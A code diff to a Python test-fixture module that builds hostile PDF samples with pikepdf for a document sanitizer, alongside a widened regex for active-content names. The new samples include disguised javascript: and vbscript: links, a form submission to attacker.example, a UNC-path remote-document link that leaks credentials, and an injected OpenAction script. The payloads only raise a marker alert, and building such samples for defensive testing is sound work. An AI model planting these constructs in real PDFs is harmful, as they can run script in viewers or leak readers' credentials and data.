@@ -12,7 +12,8 @@ from pikepdf import Array, Dictionary, Name, String
 MARKER = "HOSTILE-7f3a"
 # Names that only active content uses, as they appear in an uncompressed, object-stream-free dump.
 ACTIVE_NAMES = re.compile(
-    rb"/(JavaScript|JS|AA|Launch|EmbeddedFiles?|FileAttachment|RichMedia\w*|XFA|GoToE)(?=[\s/<>\[\]()]|$)"
+    rb"/(JavaScript|JS|AA|Launch|EmbeddedFiles?|FileAttachment|RichMedia\w*|XFA|GoToE|GoToR|SubmitForm"
+    rb"|ImportData|Rendition)(?=[\s/<>\[\]()]|$)"
 )
 
 
@@ -130,6 +131,105 @@ def rich_media_and_javascript_uri() -> bytes:
     return save(pdf)
 
 
+def _links(*actions: Dictionary) -> bytes:
+    pdf, page = _document()
+    page.Annots = Array(
+        [
+            pdf.make_indirect(
+                Dictionary(
+                    Type=Name.Annot,
+                    Subtype=Name.Link,
+                    Rect=Array([72, 600 - 30 * n, 300, 620 - 30 * n]),
+                    A=action,
+                )
+            )
+            for n, action in enumerate(actions)
+        ]
+    )
+    return save(pdf)
+
+
+def disguised_script_links() -> bytes:
+    """Script URIs as a browser still reads them: a tab inside the scheme, a leading NUL, UTF-16 text
+    (pikepdf writes a non-Latin string so), upper case, vbscript."""
+    return _links(
+        *(
+            Dictionary(S=Name.URI, URI=String(uri))
+            for uri in (
+                f"java\tscript:alert('{MARKER}')",
+                f"\x00javascript:alert('{MARKER}')",
+                f"javascript:alert('{MARKER}')\u2603",
+                f" JAVASCRIPT:alert('{MARKER}')",
+                f"vbscript:msgbox('{MARKER}')",
+            )
+        )
+    )
+
+
+def links_out_of_the_web() -> bytes:
+    """Links a CDN must not hand out: data: (an HTML page), file:, a UNC path (the viewer logs in to
+    the host), a scheme-less string."""
+    return _links(
+        *(
+            Dictionary(S=Name.URI, URI=String(uri))
+            for uri in (
+                f"data:text/html,<script>{MARKER}</script>",
+                f"file:///etc/{MARKER}",
+                f"\\\\attacker.example\\{MARKER}",
+                f"//attacker.example/{MARKER}",
+            )
+        )
+    )
+
+
+def form_submission_and_import() -> bytes:
+    return _links(
+        Dictionary(
+            S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"https://attacker.example/{MARKER}"))
+        ),
+        Dictionary(S=Name.ImportData, F=String(f"{MARKER}.fdf")),
+    )
+
+
+def remote_document_and_rendition() -> bytes:
+    """A link into a file on a UNC path (the viewer fetches it, with the reader's credentials) and a
+    media rendition, chained after a harmless go-to in the same document."""
+    remote = Dictionary(
+        S=Name.GoToR, F=String(f"\\\\attacker.example\\share\\{MARKER}.pdf"), D=Array([0, Name.Fit])
+    )
+    rendition = Dictionary(S=Name.Rendition, OP=0, R=Dictionary(S=Name.MR, N=String(MARKER)))
+    return _links(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([remote, rendition])))
+
+
+def javascript_in_an_incremental_update() -> bytes:
+    """A clean file with an incremental update appended, as an editor saves: the update replaces the
+    catalog with one whose /OpenAction runs a script."""
+    pdf, _page = _document()
+    base = save(pdf, static_id=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
+    with pikepdf.open(io.BytesIO(base)) as reopened:
+        root = reopened.Root.objgen[0]
+        pages = reopened.Root.Pages.objgen[0]
+        size = int(reopened.trailer.Size)
+    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
+    script = size
+    update = b"\n"
+    offsets = {}
+    offsets[root] = len(base) + len(update)
+    update += (
+        f"{root} 0 obj\n<< /Type /Catalog /Pages {pages} 0 R /OpenAction {script} 0 R >>\nendobj\n".encode()
+    )
+    offsets[script] = len(base) + len(update)
+    update += f"{script} 0 obj\n<< /S /JavaScript /JS (app.alert\\('{MARKER}'\\)) >>\nendobj\n".encode()
+    xref_at = len(base) + len(update)
+    xref = b"xref\n" + b"".join(
+        f"{number} 1\n{offsets[number]:010d} 00000 n \n".encode() for number in sorted(offsets)
+    )
+    trailer = (
+        f"trailer\n<< /Size {size + 1} /Root {root} 0 R /Prev {previous} >>\nstartxref\n{xref_at}\n%%EOF\n"
+    )
+    return base + update + xref + trailer.encode()
+
+
 def plain_link() -> bytes:
     pdf, page = _document()
     link = Dictionary(
@@ -151,4 +251,9 @@ HOSTILE_PDFS = {
     "xfa.pdf": (xfa_form, {"xfa"}),
     "objstm-javascript.pdf": (javascript_in_object_stream, {"javascript", "additional_actions"}),
     "rich-media.pdf": (rich_media_and_javascript_uri, {"rich_media", "javascript"}),
+    "disguised-script-links.pdf": (disguised_script_links, {"javascript"}),
+    "links-out-of-the-web.pdf": (links_out_of_the_web, {"unsafe_links"}),
+    "form-submission.pdf": (form_submission_and_import, {"form_submission"}),
+    "remote-document.pdf": (remote_document_and_rendition, {"external_documents", "rich_media"}),
+    "incremental-update-javascript.pdf": (javascript_in_an_incremental_update, {"javascript"}),
 }
